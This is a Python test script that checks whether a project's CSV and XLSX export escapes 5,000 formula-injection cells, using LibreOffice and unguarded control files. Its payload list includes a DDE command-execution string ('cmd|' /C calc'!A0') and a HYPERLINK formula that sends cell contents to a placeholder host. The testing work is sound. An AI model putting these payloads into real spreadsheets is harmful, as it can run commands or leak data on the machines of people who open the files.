"""``make spreadsheet``: a real spreadsheet program opens our files with 5,000 cells that want to be formulas (T17).

Needs LibreOffice (Debian: libreoffice-calc). Prints one JSON object; ends with 1 when a cell became a formula, when a
file made without the rule holds none (then nothing was tried), or when the program is missing.
"""

import io
import json
import random
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from openpyxl import Workbook

from listening.core.sheets import Sheet, as_csv, as_xlsx
from tests.core.test_sheets import KNOWN, SIGNS

#: As many as T17 of the threats asks for.
CELLS = 5_000
GAPS = ["", "", " ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\t", "\r", "\n", "\u2028"]
RESTS = [
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.org?x="&A1)',
    "cmd|' /C calc'!A0",
    "A1",
    "{1+1}",
    "1",
]
#: What a cell that computes carries in a flat OpenDocument file.
FORMULA = "table:formula="


def cells() -> list[str]:
    chance = random.Random(17)
    made = (chance.choice(GAPS) + chance.choice(SIGNS) + chance.choice(RESTS) for _cell in range(CELLS))
    return [*KNOWN, *made][:CELLS]


def unguarded(texts: list[str]) -> dict[str, bytes]:
    """The same cells in files that know no rule."""
    book, file = Workbook(), io.BytesIO()
    for number, text in enumerate(texts, start=1):
        if text.startswith("=") and text.isprintable():
            book.active.cell(number, 1, text)
    book.save(file)
    rows = "\r\n".join('"' + text.replace('"', '""').replace("\0", "") + '"' for text in texts)
    return {"control.csv": rows.encode(), "control.xlsx": file.getvalue()}


def formulas(folder: Path, files: dict[str, bytes]) -> dict[str, int]:
    """Each file opened and saved again by the program; how many of its cells compute."""
    found = {}
    for name, content in files.items():
        (folder / name).write_bytes(content)
        command = [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{folder}/profile",
            "--convert-to",
            "fods",
            "--outdir",
            str(folder),
            str(folder / name),
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=300)
        found[name] = (folder / name).with_suffix(".fods").read_text(encoding="utf-8").count(FORMULA)
    return found


def main() -> int:
    if not shutil.which("soffice"):
        print("soffice is missing: apt install libreoffice-calc", file=sys.stderr)
        return 1
    texts = cells()
    sheet = Sheet("Words", ["words"], [[text] for text in texts])
    with tempfile.TemporaryDirectory() as folder:
        ours = formulas(Path(folder), {"ours.csv": as_csv(sheet), "book.xlsx": as_xlsx([sheet])})
        control = formulas(Path(folder), unguarded(texts))
    holds = not any(ours.values()) and all(control.values())
    print(json.dumps({"attack": "spreadsheet_program", "cells": CELLS, **ours, **control, "holds": holds}))
    return int(not holds)


if __name__ == "__main__":
    sys.exit(main())
